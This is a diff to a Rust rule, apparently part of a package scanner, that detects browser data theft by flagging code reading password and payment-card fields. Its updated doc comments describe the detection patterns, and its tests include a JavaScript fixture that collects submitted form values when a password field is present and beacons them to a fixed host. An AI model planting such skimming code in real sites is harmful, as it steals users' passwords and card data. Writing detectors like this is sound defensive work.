@@ -15,7 +15,9 @@ diligence_finding::declare_rule! {
     /// an `img`/`script`/`iframe` element's `src`, `location`): password and payment-card fields, key strokes,
     /// form inputs (`querySelectorAll('input')`, `FormData`, `submit`/`change` events), the cookie jar, web
     /// storage, the clipboard, wallet-provider answers — through variables, encoders, callbacks, helpers and
-    /// modules. With a hard-coded destination: critical for password/card fields or key strokes, for two kinds
+    /// modules. Form inputs read in a file that singles out password or payment fields (`el.type === 'password'`,
+    /// a `/card|cvv|cvc/` name pattern) count as password/card fields. With a hard-coded destination: critical
+    /// for password/card fields or key strokes, for two kinds
     /// of data, for an exfiltration-style endpoint, or for a destination URL decoded at run time
     /// (`String.fromCharCode`, `atob`); high for the whole cookie jar, a storage dump or the
     /// clipboard; medium for form inputs alone. Without a complete path: cookies, storage, forms or sensitive
@@ -35,7 +37,9 @@ diligence_finding::declare_rule! {
     /// file: the read and the send must share a function for high or critical. Form serialisers and API
     /// clients send to the URL their caller passes (`form.action`, a base URL option): a path to a
     /// destination that is not constant is medium for password fields and not reported otherwise. Analytics
-    /// read their own cookie (`document.cookie.split(';')…`) or a named storage entry: low.
+    /// read their own cookie (`document.cookie.split(';')…`) or a named storage entry (also one a storage
+    /// wrapper's caller names, `getItem(prefix + key)`): low. Payment SDKs that post card fields to their own
+    /// constant host would be critical; they are loaded from the processor's CDN rather than bundled from npm.
     pub static BROWSER_DATA_THEFT = { id: "code/browser-data-theft", severity: Severity::Critical };
 }
 
@@ -148,7 +152,12 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
         .collect();
     let mut out = Vec::new();
     for path in flows(p, SOURCES, &[SinkKind::Network]).take(20) {
-        let w = weight(path);
+        // Form inputs read by code that singles out password or payment fields
+        // (`el.type === 'password'`, `/card|cvv|cvc/`) are what the user typed there.
+        let picked = path.source == SourceKind::FormInput
+            && p.file(&path.from.file)
+                .is_some_and(|f| f.has(Kind::SensitiveField));
+        let w = if picked { 3 } else { weight(path) };
         let concealed = hidden.contains(&(path.to.file.as_str(), path.to.line));
         let sev = match (path.dest.is_some(), w) {
             (true, _) if exfil_destination(path.dest.as_deref()) => Severity::Critical,
@@ -296,6 +305,38 @@ mod tests {
         ]);
         let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
         assert_eq!((f.line, f.severity), (3, diligence_finding::Severity::Low));
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// Inputs collected on submit by code that keeps password fields, posted to a constant
+    /// URL: what the user typed into password fields.
+    #[test]
+    fn positive_inputs_filtered_for_passwords() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "t.js",
+                "function pick(form) {\n  var out = {}, hit = false;\n  form.querySelectorAll('input').forEach(function (el) { out[el.name] = el.value; if (el.type === 'password') hit = true; });\n  return hit ? out : null;\n}\ndocument.addEventListener('submit', function (e) {\n  var d = pick(e.target);\n  if (d) navigator.sendBeacon('https://cdn.example.com/m', JSON.stringify(d));\n});\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
+        assert_eq!(
+            (f.line, f.severity),
+            (8, diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// A validation library checks password fields and never sends anything.
+    #[test]
+    fn negative_validator_checks_password_fields() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "v.js",
+                "export function validate(form) {\n  const errors = [];\n  for (const el of form.querySelectorAll('input')) {\n    if (el.type === 'password' && el.value.length < 8) errors.push(el.name);\n    if (/card|cvv|cvc/i.test(el.name) && !/^\\d+$/.test(el.value)) errors.push(el.name);\n  }\n  return errors;\n}\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/browser-data-theft").is_empty());
         assert_eq!(s.verdict, crate::Verdict::Clean);
     }
 
